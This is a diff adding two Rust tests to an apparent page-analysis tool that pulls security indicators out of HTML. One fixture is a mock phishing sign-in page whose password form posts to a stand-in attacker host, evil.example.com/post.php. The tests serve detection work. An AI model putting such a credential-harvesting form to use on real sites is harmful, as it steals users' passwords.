@@ -149,3 +149,31 @@ fn a_tag_of_endless_attributes_costs_that_tag_alone() {
         assert!(item.reading.losses().iter().any(|loss| loss.what.contains("100 attributes")), "{tag}{attribute}");
     }
 }
+
+#[test]
+fn where_a_page_sends_a_password_is_a_trace_and_what_it_loads_is_named() {
+    let lure = "<!doctype html><html><head><meta http-equiv=refresh content=\"9;url=http://next.example.com/b\"></head><body><p>Sign in</p>\
+        <form action=\"https://evil.example.com/post.php\"><input type=password></form><img src=\"https://pictures.example.net/a.png\">\
+        <footer><a href=\"https://frame.example.org/\">us</a></footer></body></html>";
+    let item = read(lure);
+    let values: Vec<String> = item.reading.observations().iter().map(|o| o.observed.to_string()).collect();
+    for wanted in ["https://evil.example.com/post.php", "evil.example.com", "http://next.example.com/b"] {
+        assert!(values.iter().any(|value| value == wanted), "{wanted}: {values:?}");
+    }
+    let aside =
+        |what: &str, reason| item.reading.values_set_aside().iter().any(|a| a.what == what && a.reason == reason);
+    assert!(aside("https://pictures.example.net/a.png", Reason::Citation));
+    assert!(aside("https://frame.example.org/", Reason::Own), "{:?}", item.reading.values_set_aside());
+    let report = "<!doctype html><html><body><p>Report</p><form action=\"https://vendor.example.net/search\"><input type=text></form></body></html>";
+    assert_eq!(read(report).reading.observations(), []);
+}
+
+#[test]
+fn a_table_of_a_page_is_heard_where_it_denies() {
+    let page = "<!doctype html><html><body><p>Hunt</p><table><tr><th>Tool</th><th>Result</th></tr>\
+        <tr><td><p>Cobalt Strike</p></td><td><p>not found</p></td></tr><tr><td>good.example.com</td><td>false positive</td></tr></table></body></html>";
+    let item = read(page);
+    let stated: Vec<String> =
+        item.reading.observations().iter().filter(|o| o.bearing.is_stated()).map(|o| o.observed.to_string()).collect();
+    assert_eq!(stated, Vec::<String>::new());
+}
